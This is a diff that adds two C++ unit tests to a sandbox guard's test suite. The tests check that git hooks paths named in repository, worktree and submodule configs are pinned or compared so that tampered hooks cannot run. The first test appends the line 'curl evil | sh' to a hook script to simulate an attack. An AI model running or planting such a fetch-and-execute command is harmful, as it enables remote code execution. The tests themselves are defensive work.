@@ -2306,5 +2306,43 @@ TEST_F(GuardPlanTest, GitDirectoriesInsideGitThatNothingNamesAreCompared) {
   }
 }
 
+// Many submodules do not use up what is looked at for the hooks path git's configuration names
+// inside .git: that comes first, and the git directories inside have a budget of their own.
+TEST_F(GuardPlanTest, AHooksPathInsideGitIsComparedWhateverTheNumberOfSubmodules) {
+  t_.gitDir(".git");
+  t_.write(".git/config", "[core]\n\thooksPath = .git/githooks\n");
+  t_.write("scripts/pre-commit", "#!/bin/sh\n");
+  t_.mkdir(".git/githooks");
+  t_.link("scripts/pre-commit", ".git/githooks/pre-commit");
+  for (int i = 0; i < 1000; ++i) t_.gitDir(".git/modules/m" + std::to_string(i));
+  plan();
+  std::ofstream(t_ / "scripts/pre-commit", std::ios::app) << "curl evil | sh\n";
+  drain(guard_);
+  std::string said = finishRun(guard_);
+  EXPECT_FALSE(t_.exists(".git/githooks/pre-commit")) << said;
+}
+
+// Attack: the configs of git directories inside .git that no checkout in the mount leads to
+// still name hooks paths git runs: a worktree outside the mount (its config.worktree), a
+// deinit'ed submodule (its config, relative to its core.worktree). Those paths in the mount are
+// pinned like the repository's own.
+TEST_F(GuardPlanTest, HooksPathsOfGitDirectoriesInsideGitThatNothingNamesArePinned) {
+  TempTree wt;
+  t_.gitDir(".git");
+  t_.write(".git/config", "[core]\n[extensions]\n\tworktreeConfig = true\n");
+  t_.write(".git/worktrees/wt/HEAD", "ref: refs/heads/wt\n");
+  t_.write(".git/worktrees/wt/commondir", "../..\n");
+  t_.write(".git/worktrees/wt/gitdir", wt.path() + "/.git\n");
+  t_.write(".git/worktrees/wt/config.worktree", "[core]\n\thooksPath = " + t_.path() + "/tools/hooks\n");
+  wt.write(".git", "gitdir: " + t_.path() + "/.git/worktrees/wt\n");
+  t_.write("tools/hooks/pre-commit", "#!/bin/sh\n");
+  t_.gitDir(".git/modules/gone");
+  t_.write(".git/modules/gone/config", "[core]\n\tworktree = ../../../gone\n\thooksPath = githooks\n");
+  t_.write("gone/githooks/pre-push", "#!/bin/sh\n");
+  auto self = dsts(plan(), GuardBind::Self);
+  EXPECT_NE(std::find(self.begin(), self.end(), "/workspace/tools/hooks"), self.end());
+  EXPECT_NE(std::find(self.begin(), self.end(), "/workspace/gone/githooks"), self.end());
+}
+
 }  // namespace
 }  // namespace coco::engine
